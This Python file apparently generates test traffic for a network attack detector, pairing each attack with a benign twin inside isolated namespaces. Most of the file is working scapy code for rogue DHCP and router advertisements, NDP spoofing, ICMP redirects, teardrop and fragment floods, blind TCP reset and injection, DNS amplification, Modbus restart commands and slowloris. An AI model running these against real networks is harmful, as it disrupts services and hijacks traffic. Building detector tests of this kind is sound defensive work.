"""Packets for `cargo xtask attacks`, sent with scapy (PyPI) inside the campaign's own namespaces.

Each function is one attack or one benign twin; the table in scenarios.rs says which is which.
"""

import random
import socket
import sys
import threading
import time

from scapy.all import (  # noqa: F401
    ARP, BOOTP, DHCP, DNS, DNSQR, ICMP, IP, TCP, UDP, Ether, ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo, IPv6, Raw, conf, fragment, get_if_hwaddr, sendp, sniff, getmacbyip,
)

conf.verb = 0
DEV = "eth0"
VICTIM, GATEWAY, OUTSIDE, NEIGHBOUR = "10.80.0.2", "10.80.0.1", "198.51.100.9", "10.80.0.3"
ALL = "ff:ff:ff:ff:ff:ff"
random.seed(7)


def me():
    return get_if_hwaddr(DEV)


def to_victim(packet, src=None):
    return Ether(src=src or me(), dst=getmacbyip(VICTIM)) / packet


def repeat(packets, gap=0.01):
    for packet in packets:
        sendp(packet, iface=DEV)
        time.sleep(gap)


def announce(address):
    """Three gratuitous replies, as a cluster sends on failover."""
    repeat([Ether(src=me(), dst=ALL) / ARP(op=2, hwsrc=me(), psrc=address, hwdst=ALL, pdst=address)] * 3, 0.3)


def stream(n):
    """Datagrams one way, as media and telemetry go."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(int(n)):
        sock.sendto(b"x" * 1000, (VICTIM, 5004))
        time.sleep(0.001)


def stream_sink():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", 5004))
    while True:
        sock.recv(2000)


def closed_ports(host):
    """Datagrams to closed ports of a host, which refuses them."""
    for port in range(9001, 9007):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.sendto(b"x", (host, port))
        time.sleep(0.3)


def dhcp_offer(server, router, src_mac):
    options = [("message-type", "offer"), ("server_id", server), ("router", router), ("name_server", router),
               ("subnet_mask", "255.255.255.0"), ("lease_time", 3600), "end"]
    return (Ether(src=src_mac, dst=ALL) / IP(src=server, dst="255.255.255.255") / UDP(sport=67, dport=68)
            / BOOTP(op=2, yiaddr="10.80.0.77", chaddr=bytes.fromhex("020000000077")) / DHCP(options=options))


def rogue_dhcp():
    real = dhcp_offer("10.80.0.4", GATEWAY, "02:00:00:00:00:04")
    repeat([real, dhcp_offer("10.80.0.66", "10.80.0.66", me())] * 3)


def dhcp_failover():
    real = dhcp_offer("10.80.0.4", GATEWAY, "02:00:00:00:00:04")
    repeat([real, dhcp_offer("10.80.0.5", GATEWAY, "02:00:00:00:00:05")] * 3)


def router_advertisement(src, mac, prefix, lifetime=1800):
    return (Ether(src=mac, dst="33:33:00:00:00:01") / IPv6(src=src, dst="ff02::1", hlim=255)
            / ICMPv6ND_RA(routerlifetime=lifetime) / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64))


def rogue_ra():
    real = router_advertisement("fe80::1", "02:00:00:00:00:01", "2001:db8:1::")
    repeat([real, router_advertisement("fe80::66", me(), "2001:db8:66::")] * 3)


def redundant_routers():
    real = router_advertisement("fe80::1", "02:00:00:00:00:01", "2001:db8:1::")
    repeat([real, router_advertisement("fe80::2", me(), "2001:db8:1::")] * 3)


def advertisement(mac, solicited):
    return (Ether(src=mac, dst="33:33:00:00:00:01") / IPv6(src="fe80::1", dst="ff02::1", hlim=255)
            / ICMPv6ND_NA(tgt="fe80::1", R=1, S=solicited, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac))


def ndp_spoof():
    repeat([advertisement("02:00:00:00:00:01", 0)] + [advertisement(me(), 0)] * 8, 0.1)


def ndp_failover():
    repeat([advertisement("02:00:00:00:00:01", 0)] + [advertisement(me(), 0)] * 3, 0.1)


def redirect():
    quote = IP(src=VICTIM, dst=OUTSIDE) / UDP(sport=5555, dport=53)
    repeat([to_victim(IP(src=GATEWAY, dst=VICTIM) / ICMP(type=5, code=1, gw="10.80.0.66") / quote)] * 4, 0.1)


def frag_needed():
    quote = IP(src=VICTIM, dst=OUTSIDE) / TCP(sport=8080, dport=4444, seq=12345)
    message = IP(src=GATEWAY, dst=VICTIM) / ICMP(type=3, code=4, nexthopmtu=68) / quote
    repeat([to_victim(message)] * 4, 0.1)


def unreachable():
    repeat([to_victim(IP(src=GATEWAY, dst=VICTIM) / ICMP(type=3, code=1)
                      / IP(src=VICTIM, dst=NEIGHBOUR) / TCP(sport=8080, dport=port, seq=99, flags="A"))
            for port in range(2000, 2006)], 0.05)


def teardrop():
    first = IP(src="10.80.0.66", dst=VICTIM, id=242, proto=17, flags="MF") / Raw(b"A" * 36)
    second = IP(src="10.80.0.66", dst=VICTIM, id=242, proto=17, frag=3) / Raw(b"B" * 4)
    repeat([to_victim(first), to_victim(second)])


def fragment_flood():
    sendp([to_victim(IP(src=f"10.90.{n % 200}.{n % 250}", dst=VICTIM, id=n, proto=17, flags="MF") / Raw(b"x" * 64))
           for n in range(1, 600)], iface=DEV)


def fragmented_bulk():
    for n in range(300):
        sendp([to_victim(p) for p in fragment(IP(src="10.80.0.66", dst=VICTIM, id=n + 1) / UDP(sport=2049, dport=2049)
                                              / Raw(b"x" * 3000), fragsize=1400)], iface=DEV)


def connection(port=8080):
    """A connection of this host to the victim, with its numbers: (socket, its port, next seq, next ack)."""
    seen = {}

    def look(packet):
        if TCP in packet and packet[IP].src == VICTIM:
            seen["seq"], seen["ack"] = packet[TCP].ack, packet[TCP].seq

    sniffer = threading.Thread(target=lambda: sniff(iface=DEV, prn=look, timeout=1.5, filter=f"tcp port {port}"))
    sniffer.start()
    time.sleep(0.5)
    sock = socket.create_connection((VICTIM, port))
    sock.sendall(b"GET /slow HTTP/1.0\r\n")
    sniffer.join()
    return sock, sock.getsockname()[1], seen["seq"], seen["ack"]


def hold(seconds):
    """A connection of this host to the victim, talking now and then."""
    sock = socket.create_connection((VICTIM, 8080))
    print(sock.getsockname()[1], flush=True)
    for n in range(int(seconds * 5)):
        sock.sendall(b"X-%d: y\r\n" % n)
        time.sleep(0.2)


def off_path_reset(port):
    """Blind: in the neighbour's name, at steps of a window."""
    repeat([to_victim(IP(src=NEIGHBOUR, dst=VICTIM) / TCP(sport=int(port), dport=8080, flags="R",
                                                          seq=random.getrandbits(32))) for _ in range(40)], 0.005)


def off_path_data(port):
    repeat([to_victim(IP(src=NEIGHBOUR, dst=VICTIM) / TCP(sport=int(port), dport=8080, flags="PA",
                                                          seq=random.getrandbits(32), ack=random.getrandbits(32))
                      / Raw(b"GET /evil HTTP/1.0\r\n\r\n")) for _ in range(40)], 0.005)


def challenge_ack():
    sock, sport, seq, _ = connection()
    sendp([to_victim(IP(src="10.80.0.66", dst=VICTIM) / TCP(sport=sport, dport=8080, flags="R", seq=seq + 100 + n))
           for n in range(100)], iface=DEV)
    time.sleep(0.5)
    sock.close()


def syn_ack_reflection():
    sendp([to_victim(IP(src=f"198.51.100.{n % 40 + 10}", dst=VICTIM) / TCP(sport=443, dport=n, flags="SA", seq=n, ack=n))
           for n in [7000 + k % 90 for k in range(900)]], iface=DEV)


def amplified_answers():
    for n in range(400):
        body = DNS(id=n, qr=1, qd=DNSQR(qname="example.com", qtype=255)) / Raw(b"x" * 700)
        sendp(to_victim(IP(src=f"198.51.100.{n % 30 + 10}", dst=VICTIM) / UDP(sport=53, dport=4000 + n % 50) / body), iface=DEV)


def small_mss():
    repeat([to_victim(IP(src="10.80.0.66", dst=VICTIM) / TCP(sport=3000 + n, dport=8080, flags="S", seq=n,
                                                             options=[("MSS", 48)])) for n in range(5)])


def modbus(unit_codes, answers):
    """A Modbus exchange between this host and the victim's port 502."""
    sock = socket.create_connection((VICTIM, 502))
    for n, (unit, pdu) in enumerate(unit_codes):
        sock.sendall(bytes([0, n % 256, 0, 0, 0, len(pdu) + 1, unit]) + pdu)
        if answers:
            sock.recv(300)
        time.sleep(0.02)
    sock.close()


def modbus_poll():
    modbus([(1, bytes([3, 0, 0, 0, 10]))] * 60, True)


def modbus_restart():
    modbus([(1, bytes([3, 0, 0, 0, 10]))] * 5 + [(1, bytes([8, 0, 1, 0, 0])), (1, bytes([8, 0, 4, 0, 0]))], True)


def modbus_server():
    """A controller that answers everything with a value or an echo."""
    server = socket.create_server(("0.0.0.0", 502))
    while True:
        peer, _ = server.accept()
        while head := peer.recv(300):
            body = bytes([head[6], head[7], 2, 0, 7]) if head[7] in (3, 4) else head[6:]
            peer.sendall(head[:4] + len(body).to_bytes(2, "big") + body)


def idle_listener():
    """Accepts and reads, answers the first line of a request at its end."""
    server = socket.create_server(("0.0.0.0", 8080), backlog=512)

    def serve(peer):
        data = b""
        try:
            while piece := peer.recv(4096):
                data += piece
                if data.endswith(b"\r\n\r\n"):
                    peer.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + b"x" * (5_000_000 if b"/big" in data else 300))
                    break
        except OSError:
            pass
        peer.close()

    print("ready", flush=True)
    while True:
        peer, _ = server.accept()
        threading.Thread(target=serve, args=(peer,), daemon=True).start()


def get(n, path="/", apart=0.0):
    for _ in range(int(n)):
        with socket.create_connection((VICTIM, 8080)) as sock:
            sock.sendall(f"GET {path} HTTP/1.0\r\n\r\n".encode())
            while sock.recv(65536):
                pass
        time.sleep(float(apart))


def office(n):
    """Many users behind one address: connections at once, each with a whole request."""
    users = [threading.Thread(target=get, args=(6, "/", 0.2)) for _ in range(int(n))]
    for user in users:
        user.start()
    for user in users:
        user.join()


def slowloris(n, seconds):
    """Headers without an end; slowhttptest does the same, where it is installed."""
    socks = []
    for _ in range(int(n)):
        sock = socket.create_connection((VICTIM, 8080))
        sock.sendall(b"GET / HTTP/1.1\r\nHost: v\r\n")
        socks.append(sock)
    for _ in range(int(seconds) // 2):
        time.sleep(2)
        for sock in socks:
            sock.sendall(b"X-a: b\r\n")


if __name__ == "__main__":
    name, *rest = sys.argv[1:]
    if name == "hold":
        hold(float(rest[0]))
    else:
        globals()[name](*rest)
